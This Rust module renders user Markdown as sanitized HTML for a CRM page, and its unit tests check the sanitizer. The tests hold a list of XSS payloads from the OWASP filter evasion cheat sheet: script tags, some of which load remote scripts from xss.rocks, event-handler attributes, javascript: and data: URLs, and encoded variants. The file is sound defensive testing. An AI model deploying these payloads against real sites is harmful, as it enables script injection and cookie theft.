//! Markdown that plugins and users write (a `text` block, a forum post, a knowledge-base
//! article) as HTML that is safe to put in a CRM page.
//!
//! Two layers, so that a mistake in one is caught by the other:
//!
//! 1. CommonMark (with tables and strikethrough) is parsed with `pulldown-cmark`, and the events
//!    are filtered before any HTML is written: raw HTML, inline or in blocks, becomes literal
//!    text; a link keeps its target only when it is `http`, `https`, `mailto` or a path inside
//!    the CRM, and an image becomes a link to it (a page never loads a remote image, which would
//!    tell a third party who read it and when).
//! 2. The HTML is then cleaned by `ammonia` against an allowlist of tags and attributes (no
//!    `style`, no event handlers, no `class` but the code block's language), with every link
//!    opened as `rel="noopener noreferrer nofollow"`.
//!
//! The pages' Content-Security-Policy forbids inline script besides.

use std::collections::HashSet;
use std::sync::LazyLock;

use pulldown_cmark::{CowStr, Event, LinkType, Options, Parser, Tag, TagEnd};

/// Markdown longer than this is cut (a post or an article is far shorter).
pub const MAX_MARKDOWN_BYTES: usize = 256 * 1024;

/// The tags the rendered HTML may contain.
const TAGS: &[&str] = &[
    "p",
    "br",
    "hr",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "strong",
    "em",
    "del",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "a",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
];

static CLEANER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut b = ammonia::Builder::empty();
    b.add_tags(TAGS.iter().copied())
        .add_tag_attributes("a", ["href", "title"])
        .add_tag_attributes("ol", ["start"])
        .add_allowed_classes("code", LANGUAGES.iter().copied())
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(ammonia::UrlRelative::PassThrough)
        .link_rel(Some("noopener noreferrer nofollow"))
        .strip_comments(true);
    b
});

/// Code block languages kept as `class="language-…"`.
const LANGUAGES: &[&str] = &[
    "language-rust",
    "language-json",
    "language-sql",
    "language-bash",
    "language-shell",
    "language-python",
    "language-javascript",
    "language-typescript",
    "language-toml",
    "language-yaml",
    "language-xml",
    "language-text",
];

/// Renders Markdown as safe HTML.
pub fn to_safe_html(markdown: &str) -> String {
    let markdown = cut(markdown, MAX_MARKDOWN_BYTES);
    let parser = Parser::new_ext(markdown, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH);
    let events = parser.map(|event| match event {
        // Raw HTML is shown as the text it is, never interpreted.
        Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
        Event::Start(Tag::Link { link_type, dest_url, title, id }) => {
            Event::Start(Tag::Link { link_type, dest_url: safe_url(dest_url, link_type), title, id })
        }
        // An image is a link to it, its description the link's text.
        Event::Start(Tag::Image { link_type, dest_url, title, id }) => {
            Event::Start(Tag::Link { link_type, dest_url: safe_url(dest_url, link_type), title, id })
        }
        Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
        other => other,
    });
    let mut html = String::with_capacity(markdown.len() * 3 / 2);
    pulldown_cmark::html::push_html(&mut html, events);
    CLEANER.clean(&html).to_string()
}

/// A link target a page may carry: `http`, `https` and `mailto` URLs and paths inside the CRM;
/// anything else (`javascript:`, `data:`, `vbscript:`, `//other-host`, a scheme hidden behind
/// entities or control characters) becomes `#`.
fn safe_url(url: CowStr<'_>, link_type: LinkType) -> CowStr<'_> {
    let trimmed = url.trim();
    let lower: String =
        trimmed.chars().filter(|c| !c.is_control() && !c.is_whitespace()).collect::<String>().to_ascii_lowercase();
    let web = ["http://", "https://", "mailto:"].iter().any(|scheme| lower.starts_with(scheme));
    // A path or fragment inside the CRM, not a scheme-relative URL to another host.
    let inside = (lower.starts_with('/') && !lower.starts_with("//") && !lower.starts_with("/\\"))
        || lower.starts_with('#')
        || lower.starts_with('?');
    let allowed = link_type == LinkType::Email || web || inside;
    if allowed { url } else { CowStr::Borrowed("#") }
}

/// At most `max` bytes, on a character boundary.
fn cut(text: &str, max: usize) -> &str {
    if text.len() <= max {
        return text;
    }
    let mut end = max;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markdown_becomes_html() {
        let html = to_safe_html("# 售后服务\n\nSome **bold**, *em*, ~~old~~ and `code`.\n\n- one\n- two\n\n> quoted");
        assert!(html.contains("<h1>售后服务</h1>"), "{html}");
        assert!(html.contains("<strong>bold</strong>") && html.contains("<em>em</em>"), "{html}");
        assert!(html.contains("<del>old</del>") && html.contains("<code>code</code>"), "{html}");
        assert!(html.contains("<ul>\n<li>one</li>") && html.contains("<blockquote>"), "{html}");
        let table = to_safe_html("| 产品 | 价格 |\n|---|--:|\n| 椅子 | 90 |");
        assert!(table.contains("<table>") && table.contains("<td>90</td>"), "{table}");
        let code = to_safe_html("```rust\nfn main() {}\n```");
        assert!(code.contains("<pre><code class=\"language-rust\">fn main() {}"), "{code}");
    }

    #[test]
    fn links_are_kept_only_when_safe() {
        let html = to_safe_html("[docs](https://example.com/a?b=1) [客户](/customers/7) [mail](mailto:a@b.cn)");
        assert!(html.contains("href=\"https://example.com/a?b=1\""), "{html}");
        assert!(html.contains("href=\"/customers/7\""), "{html}");
        assert!(html.contains("href=\"mailto:a@b.cn\""), "{html}");
        assert!(html.contains("rel=\"noopener noreferrer nofollow\""), "{html}");
        for bad in [
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java\tscript:alert(1))",
            "[x](&#106;avascript:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x](vbscript:msgbox(1))",
            "[x](//evil.example/x)",
            "<javascript:alert(1)>",
        ] {
            let html = to_safe_html(bad);
            let lower = html.to_ascii_lowercase();
            for target in ["href=\"javascript", "href=\"java", "href=\"data:", "href=\"vbscript:", "href=\"//"] {
                assert!(!lower.contains(target), "{bad} → {html}");
            }
        }
    }

    #[test]
    fn images_become_links_and_never_load() {
        let html = to_safe_html("![报价单](https://example.com/q.png) ![x](javascript:alert(1))");
        assert!(!html.contains("<img"), "{html}");
        assert!(html.contains("<a href=\"https://example.com/q.png\""), "{html}");
        assert!(html.contains(">报价单</a>"), "{html}");
        assert!(!html.contains("javascript"), "{html}");
    }

    /// Vectors from the OWASP XSS filter evasion cheat sheet, as raw HTML, in Markdown links and
    /// in code: none leaves an element, an attribute or a URL that could run anything.
    #[test]
    fn the_owasp_filter_evasion_vectors_stay_text() {
        let corpus = [
            "<script>alert('XSS')</script>",
            "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
            "<IMG SRC=\"javascript:alert('XSS');\">",
            "<IMG SRC=javascript:alert('XSS')>",
            "<IMG SRC=JaVaScRiPt:alert('XSS')>",
            "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
            "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
            "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
            "<IMG SRC=# onmouseover=\"alert('xxs')\">",
            "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
            "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
            "<IMG SRC=\"jav\tascript:alert('XSS');\">",
            "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
            "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
            "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
            "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
            "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
            "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
            "<iframe src=http://xss.rocks/scriptlet.html <",
            "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
            "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
            "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
            "<svg/onload=alert('XSS')>",
            "<BODY ONLOAD=alert('XSS')>",
            "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
            "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
            "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
            "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
            "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
            "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
            "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
            "<a href=\"javas&#99;ript:alert(1)\">x</a>",
            "[click](javascript&#58;alert(1))",
            "[click](<javascript:alert(1)>)",
            "[click]( javascript:alert(1) )",
            "![x](\"onerror=\"alert(1))",
            "[x](https://a.example/\"onmouseover=\"alert(1))",
            "`<script>alert(1)</script>`",
            "```html\n<script>alert(1)</script>\n```",
            "<details open ontoggle=alert(1)>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        ];
        for vector in corpus {
            for markdown in [vector.to_owned(), format!("text before\n\n{vector}\n\ntext after"), format!("> {vector}")]
            {
                let html = to_safe_html(&markdown);
                let lower = html.to_ascii_lowercase();
                for tag in [
                    "<script",
                    "<img",
                    "<iframe",
                    "<svg",
                    "<body",
                    "<style",
                    "<link",
                    "<meta",
                    "<object",
                    "<embed",
                    "<input",
                    "<div",
                    "<details",
                    "<math",
                    "<noscript",
                ] {
                    assert!(!lower.contains(tag), "{vector:?} left {tag}: {html}");
                }
                // Attributes only ever stand inside `<…>`; the vector's own text is escaped.
                for t in lower.split('<').skip(1).filter_map(|t| t.split('>').next()) {
                    for attribute in
                        [" on", " style=", " src=", " background=", " data=", "href=\"javascript", "href=\"data:"]
                    {
                        assert!(!t.contains(attribute), "{vector:?} left {attribute:?} in <{t}>: {html}");
                    }
                }
            }
        }
    }

    #[test]
    fn very_long_markdown_is_cut_on_a_character_boundary() {
        let long = "售".repeat(MAX_MARKDOWN_BYTES);
        let html = to_safe_html(&long);
        assert!(html.len() < MAX_MARKDOWN_BYTES + 64, "{}", html.len());
        assert!(html.starts_with("<p>售"));
    }
}
